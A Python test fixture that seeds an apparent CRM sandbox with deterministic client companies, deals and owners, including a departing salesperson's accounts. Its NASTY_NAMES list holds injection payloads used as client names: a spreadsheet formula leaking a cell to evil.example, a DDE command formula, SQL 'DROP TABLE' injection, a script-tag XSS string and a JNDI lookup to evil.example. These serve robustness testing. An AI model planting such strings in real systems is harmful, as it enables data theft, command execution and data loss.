"""The practice company's client base: who the clients are, what is being sold to them, and who looks after each.

The CRM is seeded from this one list, and tests read from it what ought to be there. The same call gives the same list
every time. Some names are chosen to break naive code; they stand on later pages, whether by age or by value.
"""

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from decimal import Decimal
from itertools import count

from tests.sandbox.company.people import LEAVER, PEOPLE, Team

CLIENTS = 600
LEAVERS_DEALS = 60
LARGEST = Decimal("250000.00")
PAGE = 20
"""Number of clients on one page of a proposal."""

NASTY_NAMES: tuple[str, ...] = (
    "<!channel>",
    'O\'Brien & Sons "Quality" Ltd',
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE party_party;--",
    "<script>alert('clients')</script>",
    "ООО «Ромашка»",
    "北京山水有限公司",
    "شركة النور للتجارة",
    "חברת הצפון בע״מ",
    "\u202eDessalc Ltd\u202c",
    "🦊 Fox & Co 👩‍👩‍👧 Family Office",
    "Zürcher Käse-Großhandel Ññ Ltd",
    "N" + "a" * 198 + "m",
    "*bold* _italic_ `code` ~strike~ <@U0DANAONEI>",
    "Null",
    "%s %d {0} {{7*7}} ${jndi:ldap://evil.example/a}",
    "Two  spaces, a \\ backslash and a trailing dot.",
)
_FIRST = ("Alder", "Birch", "Cedar", "Drift", "Ember", "Fjord", "Gate", "Harbour", "Indigo", "Jade", "Kite", "Lumen")
_SECOND = ("Foods", "Logistics", "Optics", "Print", "Robotics", "Textiles", "Travel", "Works", "Yards", "Energy")
_LEGAL = ("GmbH", "AG", "Ltd", "BV", "SARL", "AB")


@dataclass(frozen=True, slots=True)
class Deal:
    """One opportunity. `state` is the CRM's own word; in `lead` and `opportunity` work on it goes on."""

    title: str
    amount: Decimal
    state: str


@dataclass(frozen=True, slots=True)
class Client:
    """One client company with its deals, all looked after by one person."""

    name: str
    owner: str
    """The `uid` of an employee with a log-in in the CRM."""
    deals: tuple[Deal, ...]


def _plain_names() -> Iterator[str]:
    for number in count():
        first, rest = number % len(_FIRST), number // len(_FIRST)
        second, legal = rest % len(_SECOND), rest // len(_SECOND)
        yield f"{_FIRST[first]} {_SECOND[second]} {_LEGAL[legal % len(_LEGAL)]}"


def _leavers_states() -> list[str]:
    closed = iter(("won", "converted", "lost", "cancelled", "lost"))
    going_on = ("lead", "opportunity", "opportunity")
    return [next(closed) if n % 12 == 5 else going_on[n % 3] for n in range(LEAVERS_DEALS)]


def _leavers_amounts() -> list[Decimal]:
    return [
        (LARGEST * n * n / (LEAVERS_DEALS - 1) ** 2).quantize(Decimal("0.01")) for n in reversed(range(LEAVERS_DEALS))
    ]


def _leavers_clients(names: Iterator[str]) -> Iterator[Client]:
    """Families of one, two and three deals: some are won already, one is worth nothing, one is worth most of all."""
    states, amounts, left = _leavers_states(), _leavers_amounts(), LEAVERS_DEALS
    for number in count():
        if not left:
            return
        size = min(left, (1, 2, 1, 3)[number % 4])
        at = LEAVERS_DEALS - left
        deals = tuple(Deal(f"Renewal {at + n + 1}", amounts[at + n], states[at + n]) for n in range(size))
        yield Client(next(names), LEAVER.uid, deals)
        left -= size


def _colleagues_clients(names: Iterator[str], how_many: int) -> Iterator[Client]:
    dice = random.Random(20261122)
    owners = [p.uid for p in PEOPLE if p.crm and p.team is Team.SALES and p is not LEAVER]
    for number in range(how_many):
        deals = tuple(
            Deal(
                f"Order {number + 1}.{n + 1}",
                Decimal(dice.randrange(0, 9_000_000)) / 100,
                dice.choice(("lead", "opportunity", "opportunity", "opportunity", "lost")),
            )
            for n in range(1 + (number % 5 == 0))
        )
        yield Client(next(names), owners[number % len(owners)], deals)


def _with_odd_names(book: Sequence[Client], names: Sequence[str], first: int) -> list[Client]:
    """Give the names to the clients of least value from number `first` on: a page of a list begins with likely ones."""
    worth = {number: sum(deal.amount for deal in book[number].deals) for number in range(first, len(book))}
    least = sorted(sorted(worth, key=worth.__getitem__)[: len(names)])
    renamed = dict(zip(least, names, strict=True))
    return [replace(client, name=renamed.get(number, client.name)) for number, client in enumerate(book)]


def clients() -> tuple[Client, ...]:
    """Return all clients: the leaver's come first. She and her colleagues have every second nasty name each."""
    plain = _plain_names()
    hers = list(_leavers_clients(plain))
    theirs = list(_colleagues_clients(plain, CLIENTS - len(hers)))
    return (
        *_with_odd_names(hers, NASTY_NAMES[::2], PAGE),
        *_with_odd_names(theirs, NASTY_NAMES[1::2], len(theirs) // 2),
    )


def few(number: int) -> list[Client]:
    """Return the leaver's clients, those with nasty names, and as many others as make up `number`."""
    return sorted(clients(), key=lambda client: client.owner != LEAVER.uid and client.name not in NASTY_NAMES)[:number]
